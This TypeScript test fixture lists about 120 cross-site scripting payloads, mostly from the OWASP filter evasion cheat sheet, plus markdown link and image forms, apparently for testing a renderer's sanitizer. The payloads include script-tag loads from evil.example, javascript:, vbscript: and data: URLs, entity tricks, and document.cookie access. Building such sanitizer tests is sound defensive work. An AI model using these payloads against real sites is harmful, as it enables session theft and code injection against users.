// A corpus of cross-site scripting vectors, most from the OWASP XSS Filter Evasion Cheat Sheet
// (script tags, img/svg/body handlers, javascript:/vbscript:/data: URLs, entity and unicode
// tricks, attribute and tag breaking, mutation XSS), plus the markdown forms (links, images,
// autolinks, reference links) that reach our renderer. Each would run `alert` somewhere if it got
// through; the external hosts are unresolvable on purpose.
const B64_SCRIPT = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='; // <script>alert(1)</script>

export const HTML_VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<SCRIPT/XSS SRC="//evil.example/xss.js"></SCRIPT>',
  '<SCRIPT/SRC="//evil.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//evil.example/.j>',
  '<SCRIPT a=">" SRC="//evil.example/xss.js"></SCRIPT>',
  '</script><script>alert(2)</script>',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '</textarea><script>alert(3)</script>',
  '</style><script>alert(4)</script>',
  '<scr<script>ipt>alert(5)</scr</script>ipt>',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(6)//\'>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<img src=x onerror=alert(7)>',
  '<img src="x` `<script>alert(8)</script>"` `>',
  '<img src=x:alert(alt) onerror=eval(src) alt=9>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<BODY ONLOAD=alert(\'XSS\')>',
  '<svg/onload=alert(10)>',
  '<svg onload=alert&#40;11&#41;>',
  '<svg><script>alert(12)</script></svg>',
  '<svg><a xlink:href="javascript:alert(13)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(14) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(16)>">',
  '<!--<img src="--><img src=x onerror=alert(17)//">',
  '<details open ontoggle=alert(18)>',
  '<video><source onerror="alert(19)">',
  '<audio src=x onerror=alert(20)>',
  '<input autofocus onfocus=alert(21)>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<form><button formaction=javascript:alert(22)>x</button></form>',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${B64_SCRIPT}">`,
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<iframe srcdoc="&lt;script&gt;alert(23)&lt;/script&gt;"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="//evil.example/scriptlet.html"></OBJECT>',
  `<object data="data:text/html;base64,${B64_SCRIPT}"></object>`,
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="javascript&colon;alert(24)">x</a>',
  '<a href="jav&#x09;ascript:alert(25)">tab</a>',
  '<a href="&#1;javascript:alert(26)">ctl</a>',
  `<a href="data:text/html;base64,${B64_SCRIPT}">data</a>`,
  '<a href=" javascript:alert(27)">space</a>',
  // Attribute and context breaking, for text that lands inside an attribute or a script.
  '"><img src=x onerror=alert(28)>',
  "'><img src=x onerror=alert(29)>",
  "' onmouseover='alert(30)' x='",
  '" autofocus onfocus="alert(31)" x="',
  '\\";alert(32);//',
  '</p></div><img src=x onerror=alert(33)>',
  ']]><img src=x onerror=alert(34)><![CDATA[',
  // Unicode and encoding tricks.
  '\uFF1Cscript\uFF1Ealert(35)\uFF1C/script\uFF1E',
  '<scr\u0000ipt>alert(36)</scr\u0000ipt>',
  '\u2028<img src=x onerror=alert(37)>\u2029',
  '%3Cscript%3Ealert(38)%3C%2Fscript%3E',
  '&lt;script&gt;alert(39)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(40)&#62;',
  '\\u003cimg src=x onerror=alert(41)\\u003e',
  "{{constructor.constructor('alert(42)')()}}",
  '${alert(43)}',
];

export const MARKDOWN_VECTORS: string[] = [
  '[click](javascript:alert(101))',
  '[click](JaVaScRiPt:alert(102))',
  '[click](javascript&#58;alert(103))',
  '[click](&#x6A;avascript:alert(104))',
  `[click](data:text/html;base64,${B64_SCRIPT})`,
  '[click](vbscript:msgbox(105))',
  '[click](  javascript:alert(106))',
  '[click](%6A%61vascript:alert(107))',
  '[click](<javascript:alert(108)>)',
  '[a](https://example.org "title\\" onmouseover=\\"alert(109))',
  '![img](x" onerror="alert(110))',
  '![img](javascript:alert(111))',
  '![img](https://evil.example/pixel.png)',
  '<javascript:alert(112)>',
  '[ref][evil]\n\n[evil]: javascript:alert(113)',
  '`<script>alert(114)</script>`',
  '```html\n<script>alert(115)</script>\n```',
  '**<img src=x onerror=alert(116)>**',
  '> <svg onload=alert(117)>',
  '| a | <img src=x onerror=alert(118)> |\n|---|---|\n| <script>alert(119)</script> | b |',
];

export const ALL_VECTORS = [...HTML_VECTORS, ...MARKDOWN_VECTORS];

/** The vectors that fit in `max` characters, packed into as few strings of at most `max` as possible. */
export function packed(vectors: string[], max: number, separator = ' '): { chunks: string[]; placed: number } {
  const chunks: string[] = [];
  let current = '';
  let placed = 0;
  for (const v of vectors) {
    if (v.length > max) continue;
    placed++;
    if (current === '') current = v;
    else if (current.length + separator.length + v.length <= max) current += separator + v;
    else {
      chunks.push(current);
      current = v;
    }
  }
  if (current !== '') chunks.push(current);
  return { chunks, placed };
}
